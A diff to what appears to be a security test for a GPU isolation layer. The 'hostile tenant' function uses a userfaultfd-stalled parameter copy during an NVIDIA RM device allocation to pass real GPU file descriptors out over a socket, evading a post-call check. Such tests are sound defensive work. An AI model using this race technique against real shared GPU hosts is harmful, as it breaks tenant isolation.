@@ -243,15 +243,22 @@ def send_real_files(sock: socket.socket, paths: set[str]) -> None:
 
 
 def take_gpu_file_during_device_alloc(inst: str, sock: socket.socket) -> None:
-    """The hostile tenant: allocates a device whose parameters lie in a page that faults to its own
-    userfaultfd, so RM's copy of them waits in the middle of the call, after qgpu prepared the
+    """The hostile tenant: allocates a device whose parameters reach into a page that faults to its
+    own userfaultfd, so RM's copy of them waits in the middle of the call, after qgpu prepared the
     GPU-file check. A thread then sends every real GPU file in the table to `sock` (a copy in
     flight, which qgpu's check of the table after the call cannot see), and only then lets the
-    copy finish. The last message is b"done" and the allocation's RM status."""
+    copy finish. The last message is b"done" and the allocation's RM status. The first 12 bytes
+    (deviceId, hClientShare, hTargetClient: what qgpu reads before the call, DOC: client handles
+    in parameters) sit at the end of a page that is there; the rest, which only RM reads, on the
+    faulting one."""
     r = Rm(dev=inst)
-    page = mmap.mmap(-1, mmap.PAGESIZE)  # NV0080 params: deviceId 0
-    addr = ctypes.addressof(ctypes.c_char.from_buffer(page))
-    handler = stall_first_touch(addr, b"", lambda: send_real_files(sock, {"/dev/nvidia0"}))
+    pages = mmap.mmap(-1, 2 * mmap.PAGESIZE)  # NV0080 params: all zero, deviceId 0
+    base = ctypes.addressof(ctypes.c_char.from_buffer(pages))
+    pages[0] = 0  # the first page is there before the call
+    addr = base + mmap.PAGESIZE - 12
+    handler = stall_first_touch(
+        base + mmap.PAGESIZE, b"", lambda: send_real_files(sock, {"/dev/nvidia0"})
+    )
     buf = bytearray(rm.NVOS64.pack(r.client, r.client, 0, rm.DEVICE, addr, 0, 0, 0, 0xFFFFFFFF))
     rm.ioctl(r.ctl, rm.RM_ALLOC, buf)
     handler.join()
